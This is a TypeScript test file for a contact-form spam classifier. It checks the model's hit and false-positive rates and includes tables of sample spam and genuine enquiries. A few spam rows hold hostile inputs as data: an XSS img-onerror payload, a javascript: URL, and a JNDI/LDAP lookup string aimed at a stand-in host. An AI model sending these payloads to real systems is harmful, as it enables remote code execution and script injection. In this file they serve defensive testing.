// How well the model does, on what it has learned and on what it has not.
import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { isDisposable } from '#server/enquiries/disposable-domains.ts';
import stored from './spam-model.json' with { type: 'json' };
import { scoreSpam, spamReasonCodes } from './spam-score.ts';
import { ratesOf, type SpamEntry, type SpamExample, spamExample, trainSpamModel } from './spam-training.ts';

const collected = [...read('genuine', false), ...read('spam', true)];

function read(name: string, spam?: boolean): SpamExample[] {
  const text = readFileSync(new URL(`spam-corpus/${name}.json`, import.meta.url), 'utf8');
  const entries: (SpamEntry & { spam?: boolean })[] = JSON.parse(text);
  return entries.map((entry) => spamExample(entry, spam ?? entry.spam === true, isDisposable));
}

const setsOf = (examples: readonly SpamExample[]) =>
  [...new Set(examples.map(({ set }) => set))].sort((one, other) => one - other);

test('of what was collected at least 95 % of the spam is held, and at most 2 % of the rest', () => {
  const { caught, wronglyHeld } = ratesOf(stored, collected);
  expect(caught).toBeGreaterThanOrEqual(0.95);
  expect(wronglyHeld).toBeLessThanOrEqual(0.02);
});

// Written by five who knew neither the model nor the collections. They are no longer a proof once they have been learned from.
test('of collections that it never learned from at least 95 % of the spam is held, and at most 2 % of the rest', () => {
  const { caught, wronglyHeld } = ratesOf(stored, read('unseen'));
  expect(caught).toBeGreaterThanOrEqual(0.95);
  expect(wronglyHeld).toBeLessThanOrEqual(0.02);
});

// What was reached, a little rounded: [collection, least spam held, most genuine held]. It keeps the model honest, it is not the aim.
// Hardest to tell are the second and the fourteenth, in which honest people write like sellers, the eighth with hand-made offers of
// local firms and buyers who turn out to sell, and the twentieth with one line from a telephone.
const reached = [
  [1, 0.98, 0.02],
  [2, 0.95, 0.05],
  [3, 0.87, 0.02],
  [4, 0.91, 0.02],
  [5, 0.89, 0.02],
  [6, 0.97, 0.02],
  [7, 0.98, 0.02],
  [8, 0.68, 0.03],
  [10, 0.95, 0.03],
  [13, 0.92, 0.02],
  [14, 0.96, 0.06],
  [15, 0.94, 0.03],
  [16, 0.92, 0.02],
  [19, 0.95, 0.02],
  [20, 0.9, 0.02],
  [21, 0.94, 0.03],
  [22, 0.93, 0.03],
  [24, 0.88, 0.02],
  [25, 0.9, 0.02],
  [26, 0.91, 0.02],
  [27, 0.95, 0.03],
] as const;

test.each([0, 1, 2, 3])(
  'learned without every fourth collection, the model holds most spam of those and few of the rest (%i)',
  (part) => {
    const model = trainSpamModel(collected.filter(({ set }) => set % 4 !== part));
    const leftOut = reached.filter(([set]) => set % 4 === part);
    expect(leftOut.map(([set]) => set)).toEqual(setsOf(collected).filter((set) => set % 4 === part));
    for (const [set, least, most] of leftOut) {
      const rates = ratesOf(
        model,
        collected.filter((example) => example.set === set),
      );
      expect.soft(rates.caught, `spam of collection ${set}`).toBeGreaterThanOrEqual(least);
      expect.soft(rates.wronglyHeld, `genuine of collection ${set}`).toBeLessThanOrEqual(most);
    }
  },
  60_000,
);

test('the model that lies here is the one that the collections make', () => {
  expect(trainSpamModel(collected, stored.about)).toEqual(stored);
}, 60_000);

test('every reason given is a known one, once', () => {
  for (const { enquiry, circumstances } of collected) {
    const given = scoreSpam(enquiry, circumstances).reasons.map((reason) => reason.code);
    expect(spamReasonCodes).toEqual(expect.arrayContaining(given));
    expect(new Set(given).size).toBe(given.length);
  }
});

const spam = table(
  `
Gaurav K | gaurav.k.digital@gmail.com | +91 98990 12345 | 41 | - | Hello Team, your website looks great but it is missing from the first three pages for most of the terms your customers type. I can share a full report with errors and the cost to fix them. Shall I go ahead?
Emily Watson | emily@contentbridge-media.com | +44 20 7946 0958 | 66 | - | We write articles for technology blogs and would love to contribute a 900 word piece to yours, free of charge. All we ask is one link back to our client in the text. Which topics suit your readers?
Pavel | pavel@itbrigade.pl | +48 22 555 01 88 | 90 | company=IT Brigade | Our engineers in Krakow have finished a long project and are free from next month: React, Laravel, Flutter, 28 EUR an hour. If your backlog is longer than your team, tell me what you need and I will propose two CVs.
Nomvula | nomvula@officehygiene-kzn.co.za | 0315550188 | 80 | company=Office Hygiene KZN | Good day, we service offices in Umhlanga with sanitary bins, air fresheners and pest control. We are running a special for new customers this month, first service free. Kindly advise who deals with facilities at your company so that I may send a quotation.
Brett | brett@localstars.io | +1 646 555 0144 | 30 | - | Your competitors have 80+ five star reviews, you have 6. We text your past customers and turn them into Google reviews on autopilot. First 10 are on us. Interested?
Capital Bridge | info@capitalbridge-sme.com | +44 7700 900123 | 25 | - | Does your business need working capital? Unsecured funding from R50k to R5m, decision within 24 hours, no collateral. Reply with your monthly turnover and I will confirm what you qualify for.
Tendai | tendai.closers@gmail.com | 0715550163 | 70 | - | Hi boss. I am a remote closer with 4 years in the agency space. Give me your offer and I will fill your calendar on commission only, no salary. Can we talk tomorrow?
GlobalPay | merchant@globalpay-gateway.net | +65 6555 0123 | 33 | - | Stop losing 3.5% on every card transaction. Our gateway settles same day at 1.2% and onboarding is free for agencies and their merchants. Let me know a good time for a walkthrough.
Maria Santos | maria@va-hub.ph | +63 2 5550 1199 | 52 | - | I would like to introduce our virtual assistants from the Philippines. Admin, social media, bookkeeping, from $6 per hour with no lock-in. May I send you three profiles that match your agency?
Dr. Ahmed Bello | ahmedbello.nnpc@outlook.com | +234 803 555 0117 | 48 | - | Greetings. I have a business of mutual benefit worth Twenty Eight Million Dollars to discuss with you. It is legal and risk free. I need a foreign partner to receive the fund. Reply through my private mail for details.
Photo Claim | rights@imageclaims-office.com | +1 202 555 0100 | 2 | - | You are using my photographs on your website without a licence. See the list of the stolen pictures with dates here: https://imageclaims-office.com/case/88123.zip. Remove them and settle within 7 days or my attorney will take this to court.
Hosting Billing | billing@renew-domains-za.com | 0105550111 | 3 | - | Your domain highveldstudio.example is due to expire. Failure to renew will make it difficult for customers to locate you on the web. Act immediately: https://renew-domains-za.com/pay
Elena | elena.k1996@gmail.com | +7 926 555 01 22 | 20 | - | Hello, my name is Elena, I saw your contact and you seem interesting. I am a lonely woman who looks for serious man. I will tell you more about me and send my photo, write me to my mail.
Wanga | wanga.healer@gmail.com | 0735550129 | 60 | - | Powerful traditional doctor. Bring back lost lover in 2 days, win court cases, remove bad luck, short boys, lottery numbers. Pay after results. WhatsApp now.
Crypto Desk | support@chain-retrieve.org | +1 332 555 0156 | 31 | - | Did you lose money to a fake broker? Our ethical hackers traced and returned over $40m in stolen coins to victims. No result, no fee. Write to us for a case review.
BetMax | promo@betmax-bonus.vip | +356 2155 5012 | 1 | trap=BetMax | Get 300% on your first deposit and 50 spins on the house! Thousands of South Africans are winning already. Register here https://betmax-bonus.vip/za
hYtReWqAsDf | h.y.t.r.e.w7@gmail.com | +12125550100 | 0 | company=PoIuYtReWq,trap=google | kLmNbVcXzAsDfGh
MichaelGrear | michaelgrear@inbox.ru | +79995550188 | 1 | company=facebook,trap=MichaelGrear | Hello, I wanted to know your price for wholesale.
Ivan | ivan.promo@yandex.ru | +74955550199 | 2 | - | Предлагаем базы клиентов и рассылку писем по формам сайтов, недорого. Пишите в телеграм.
李经理 | liming2024@qq.com | +8613800555012 | - | - | 我们专业提供网站推广和外链服务,价格优惠,欢迎联系微信
Jaco | jaco@leadmasjien.co.za | 0825550134 | 85 | company=Leadmasjien | Hi daar, ons is n span bemarkers in Centurion wat besighede soos julle help om elke maand 20 nuwe kliente te kry. R3 500 per maand, geen kontrak. Wanneer kan ek bel om te verduidelik?
{first_name} | hello@prospectpilot.co | +1 415 555 0133 | 4 | - | Hi {{first_name}}, loved what {{company}} is doing in {{city}}. We book demos for teams like yours.
admin | x@example.com | 0123456789 | - | website=javascript:alert(1) | "><img src=x onerror=alert(1)>
\${jndi:ldap://x.example/a} | scan@example.com | 0123456789 | - | - | hello
Grant | grant@solarsavers-gp.co.za | 0115550190 | 77 | company=Solar Savers | Load shedding may be back. We fit offices like yours with panels and batteries on rent-to-own, zero deposit, from R4 200 pm. When is a good time for our consultant to do a free site assessment?
Sandra Lee | sandra@awards-southern-africa.com | +44 20 7946 0011 | 60 | company=Business Excellence Awards | Congratulations! Your company has been nominated as Best Boutique Web Agency 2026. Winners receive a trophy, a double page spread and the right to use our logo. Packages begin at £1,150. May we confirm your acceptance?
Yusuf | yusuf@appfoundry.pk | +92 21 5550 1177 | 44 | - | Hi, we design and develop iOS and Android apps for startups worldwide. 250+ apps delivered. Do you have any project that you would like to get done? Please share your requirements and budget.
Lisa | lisa@photo-edits.bd | +880 2 5550 1122 | 28 | - | We offer clipping path, background removal and retouching from $0.29 per image. Send one picture for a free test and judge our quality.
Kagiso | kagiso.data@outlook.com | 0795550142 | 50 | - | I have email addresses of 40 000 attorneys and estate agents in Gauteng, fresh, 2026. R800 for all. You will get clients same day. Let me know and I send sample.
Sophie Turner | sophie@clarity-growth.co | +1 512 555 0122 | 95 | company=Clarity Growth | I was reading about Highveld Studio this morning and loved how you talk about craft. Most founders I meet at your stage hit a ceiling because every new client depends on referrals. We fixed that for 14 studios last year. If that sounds familiar, I would gladly tell you how over a coffee call.
`,
  true,
);
const genuine = table(
  `
Gerhard Nel | gerhard@nelplaas.co.za | 0824410093 | 88 | - | Middag. Ek wil weet of julle ook bestaande werwe oorneem. Ons s'n is in 2016 gebou en die ou wat dit gedoen het is Australie toe.
Precious Dlamini | precious.d@gmail.com | 0731124456 | 37 | - | Hi how much do u charge 4 a website 4 a creche
Adv K Moodley SC | chambers@kmoodley.co.za | 031 301 7788 | 160 | service=law-firm-website-development | I require a sober single page with my areas of practice, a photograph and contact details of my clerk. Kindly revert with your fee and turnaround.
Tumi | tumi@tumisbakes.co.za | 0729981123 | 120 | - | Saw the guesthouse site you did in Clarens, stunning! I bake wedding cakes and my Wix page is not cutting it. Could I send you some photos and get a rough idea of cost?
Werner | werner@brightspark-electrical.co.za | 0834419921 | 140 | company=Brightspark Electrical | Getting calls from SEO people every day promising first page of Google. Is any of it real? We have 3 vans in the East Rand and would rather pay somebody local who picks up the phone.
Naledi Mokoena | naledi@mokoenacapital.co.za | 0117841190 | 180 | company=Mokoena Capital,service=financial-services-websites,budget=50k-100k | We are a licensed FSP offering investment and retirement products. We need to replace our website, including a client portal and compliance disclosures. Please let us know who we should speak to.
Jenny Abrahams | jenny@capepharm.co.za | 0214471120 | 100 | company=Cape Pharm | Independent pharmacy in Claremont. Want customers to upload scripts and order repeat medication online for delivery. Is that something you have done?
Pieter | pieter@goldreefslots.co.za | 0118830091 | 110 | company=Goldreef LPM | We distribute licensed limited payout machines to taverns. Need a corporate site with a section for site owners to apply. Licence from the Gauteng Gambling Board available on request.
Sue | sue.hartley@icloud.com | +44 7700 900456 | 200 | - | We are moving back to Hermanus in May and opening a small ceramics studio. Would love a simple shop. Are you happy to start over email while we are still in Devon?
Rachel Goldberg | rachel@goldbergfilms.co.za | 0826614477 | 130 | service=consulting-agency-websites,budget=30k-50k | We make corporate videos and documentaries and our site cannot handle the showreels, it takes ages to load. Looking for a rebuild with proper video hosting. Portfolio: https://vimeo.com/goldbergfilms
Lerato | lerato.m@webmail.co.za | 0611124490 | 50 | - | Dumela, ke batla webosaete ya lebenkele la me. E tla ja bokae?
Ayabonga | ayabonga@gmail.com | 0784419920 | 45 | - | Molo, ndifuna iwebhusayithi yeshishini lam. Ndicela nindifonele.
Marie Dubois | marie@chateau-karoo.fr | +33 1 55 55 01 22 | 150 | - | Bonjour, je possede une maison d'hotes a Montagu et je cherche une agence pour refaire mon site. Quels sont vos tarifs ?
Carlos Machava | carlos@machavatransportes.co.mz | +258 84 555 0122 | 140 | - | Boa tarde. Somos uma empresa de transportes em Maputo e precisamos de um site em portugues e ingles. Podem enviar um orcamento?
Mr Patel | patel@patelwholesalers.co.za | 0313094411 | 30 | - | PLEASE CALL ME URGENT MY WEBSITE IS NOT WORKING AND EMAIL IS DOWN. CUSTOMERS ARE COMPLAINING!!!! PATEL
Hannes | hannes@hvdm.co.za | 0828814471 | 90 | - | My site was hacked. It now redirects to a casino page and Google shows viagra ads under our name. Can you clean it up and make it safe? www.hvdm.co.za
Zanele Khumalo | zanele@khumaloevents.co.za | 0762213349 | 40 | company=Khumalo Events | As discussed on the phone, here is the link to our Dropbox with logos and pictures: https://www.dropbox.com/sh/a1b2c3 and our brief on https://docs.google.com/document/d/xyz. Shout if you cannot open it.
Ntombi | ntombi@gmail.com | 0733341120 | 5 | - | Call me please
Lwazi | lwazi.s@gmail.com |  | 3 | form=guide | 
Dr Ilse Kruger | ilse@krugerdental.co.za | 0219134471 | 170 | company=Kruger Dental,service=professional-service-websites,budget=25k-50k | Two-chair dental practice in Durbanville. Our receptionist spends all day on the phone with bookings. What would online booking cost, and does it sync with Exact or GoodX?
Simphiwe | simphiwe@ubuntustaffing.co.za | 0114471234 | 150 | company=Ubuntu Staffing | We are a recruitment and outsourcing company placing developers and call centre staff. Our website must let candidates upload CVs and let clients post vacancies. Budget about R60 000.
Craig | craig@craigsloans.co.za | 0415551120 | 100 | - | Registered credit provider in PE. We want people to see what we offer: payday and personal loans up to R8 000, and apply on their phones. Do you have experience with NCR rules?
Mandla | mandla@zulucrypto.co.za | 0823319987 | 115 | - | I am launching a crypto education academy, courses only, FSCA category noted. Need course pages, login and PayFast. How long would it take?
Beth | beth@sowetogospelchoir-school.org.za | 0119381122 | 190 | company=School Choir | Would your company consider sponsoring or discounting a website for a school choir? We are performing in Germany in August and they want to see us online.
Kyle | kyle@kyledev.co.za | 0794410032 | 80 | - | Freelance dev here. I have a client who needs a Shopify build that is beyond me. Do you take referrals, or could we work on it together? Happy to hand it over completely.
Anneke | anneke@wynlandgoed.co.za | 0218871190 | 22 | company=Wynlandgoed | Baie dankie vir die voorstel. Die direkteure is tevrede, stuur asseblief die faktuur vir die deposito.
Thandeka M | thandeka@ithemba.org.za | 0124471188 | 35 | - | Please can you remove my number from your newsletter list and unsubscribe me. I asked twice. Thank you
Ravi Chetty | ravi@chettymotors.co.za | 0313331144 | 140 | company=Chetty Motors | We sell about 40 used cars a month. Want our stock on our own page instead of paying R18 000 pm to the portals. 100% of leads go through them now and we want to get more leads ourselves. Quote please.
Lindokuhle | lindo@lkattorneys.co.za | 0317781123 | 210 | company=LK Attorneys,service=law-firm-website-development | Our firm wishes to engage an agency for a new site and for monthly SEO thereafter. Attached questions: who owns the copyright, what is your hourly rate for changes, and do you guarantee uptime?
Gift | gift.n@gmail.com | 0671123390 | 95 | - | good day sir/madam i am a student doing IT at TUT, do you take interns for in-service training next year? i can send my cv
`,
  false,
);

test('of texts that no collection holds, nine in ten spams are held and hardly anything else', () => {
  const { caught, wronglyHeld } = ratesOf(stored, [...spam, ...genuine]);
  expect(caught).toBeGreaterThanOrEqual(0.9);
  expect(wronglyHeld).toBeLessThanOrEqual(0.04);
});

/** name | e-mail | phone | seconds | other fields | message */
function table(rows: string, isSpam: boolean): SpamExample[] {
  return rows
    .trim()
    .split('\n')
    .map((row) => {
      const [name = '', email = '', phone = '', seconds, others = '', ...message] = row.split(' | ');
      const { trap = '', ...fields } = Object.fromEntries(others.split(',').map((pair) => pair.split('='))) as Record<
        string,
        string
      >;
      const enquiry = { form: 'contact', name, email, phone, message: message.join(' | '), ...fields };
      const entry = { set: 0, why: name, enquiry, trap, seconds: seconds === '-' ? null : Number(seconds) };
      return spamExample(entry, isSpam, isDisposable);
    });
}
